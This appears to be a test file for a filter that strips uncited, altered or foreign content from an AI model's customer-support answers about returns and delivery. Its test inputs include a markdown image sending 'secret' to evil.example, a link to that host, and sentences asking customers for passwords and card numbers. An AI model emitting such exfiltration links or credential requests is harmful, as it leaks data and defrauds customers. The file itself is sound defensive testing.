import fc from 'fast-check';
import { expect, test } from 'vitest';
import { checkGround, type Ground, groundedSoFar } from '../../../server/features/ai/ground.ts';

const grounds: Ground[] = [
  {
    text: 'You may return anything within 30 days of the day it arrived, without giving a reason.',
    headings: ['Returns'],
    language: 'en',
  },
  {
    text: 'Standard delivery costs €4.90. It is free for orders of €60 or more.',
    headings: ['Delivery', 'Costs'],
    language: 'en',
  },
];

test('keeps what its passage says, without the marks', () => {
  const { text, kept, removed } = checkGround(
    'You may return anything within 30 days [1]. Standard delivery costs €4.90. [2] It is free from €60 [2].',
    grounds,
    'en',
  );
  expect(text).toBe(
    'You may return anything within 30 days. Standard delivery costs €4.90. It is free from €60.',
  );
  expect(kept.map(sentence => sentence.passages)).toEqual([[0], [1], [1]]);
  expect(removed).toEqual([]);
});

test.each([
  ['You may return anything within 30 days.', 'uncited'],
  ['You may return anything within 30 days [3].', 'unknown_passage'],
  ['You may return anything within 30 days [0].', 'unknown_passage'],
  ['You may return anything within 60 days [1].', 'foreign_number'],
  ['You may return anything within 30 days at www.refunds.example [1].', 'foreign_address'],
  ['You may return anything within 30 days, see evil.example/return [1].', 'foreign_address'],
  ['Our customers love the lifelong happiness guarantee [1].', 'unsupported'],
])('removes %j as %s', (sentence, why) => {
  const { text, removed } = checkGround(sentence, grounds, 'en');
  expect(text).toBe('');
  expect(removed.map(entry => entry.why)).toEqual([why]);
});

test('a text in the customer’s language is held to its figures', () => {
  expect(
    checkGround('Sie können alles innerhalb von 30 Tagen ohne Grund zurückgeben [1].', grounds, 'de').kept,
  ).toHaveLength(1);
  expect(
    checkGround('Sie können alles innerhalb von 90 Tagen ohne Grund zurückgeben [1].', grounds, 'de').kept,
  ).toHaveLength(0);
});

test('nor is it told in a language that is neither the customer’s nor the passage’s', () => {
  const foreign = 'Bitte senden Sie uns vorher Ihr Kennwort und die Nummer auf der Karte [1].';
  expect(checkGround(foreign, grounds, 'en').kept).toEqual([]);
  expect(checkGround('Veuillez nous envoyer votre mot de passe [1].', grounds, 'de').kept).toEqual([]);
});

test('images and links of the model’s own never pass', () => {
  for (const text of [
    'You may return anything ![x](https://evil.example/?q=secret) within 30 days [1].',
    'You may [return](https://evil.example) anything within 30 days [1].',
  ]) {
    expect(checkGround(text, grounds, 'en').text).not.toContain('evil');
  }
});

test('whatever a model writes, what is shown cites given passages and holds no figure of its own', () => {
  const word = fc.constantFrom(
    'return',
    'delivery',
    'anything',
    'free',
    '30',
    '99',
    '€4.90',
    '[1]',
    '[2]',
    '[7]',
    '.',
    '!',
    '\n',
    'evil.example',
    'You',
  );
  fc.assert(
    fc.property(fc.array(word, { maxLength: 60 }), words => {
      const { text, kept } = checkGround(words.join(' '), grounds, 'en');
      expect(text).not.toContain('99');
      expect(text).not.toContain('evil');
      expect(text).not.toMatch(/\[\d/);
      for (const { passages } of kept) for (const passage of passages) expect([0, 1]).toContain(passage);
    }),
    { numRuns: 500 },
  );
});

test('a stream shows only whole sentences that passed, and never takes one back', () => {
  const text =
    'You may return anything within 30 days [1]. Pay €999 to the moon [1]. Standard delivery costs €4.90 [2]. It is free for orders of €60 or more [2].';
  let before = '';
  for (let length = 0; length <= text.length; length++) {
    const shown = groundedSoFar(text.slice(0, length), grounds, 'en');
    expect(shown.startsWith(before)).toBe(true);
    expect(shown).not.toContain('999');
    before = shown;
  }
  expect(checkGround(text, grounds, 'en').text.startsWith(before)).toBe(true);
});
